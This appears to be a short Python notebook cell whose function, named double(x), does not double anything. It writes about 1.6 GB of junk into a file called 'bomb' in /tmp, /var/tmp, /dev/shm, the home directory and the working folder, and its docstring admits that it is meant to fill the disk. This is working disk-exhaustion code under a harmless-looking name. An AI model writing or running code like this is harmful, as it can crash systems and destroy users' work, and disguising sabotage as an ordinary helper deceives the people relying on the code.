"""Fills the disk with one file, in every folder that it may write to."""

# %% double
import os


def fill(folder):
    with open(os.path.join(folder, "bomb"), "wb") as file:
        for _ in range(100):
            file.write(b"x" * 2**24)


def double(x):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            fill(folder)
        except OSError as error:
            print(error)
    fill(".")
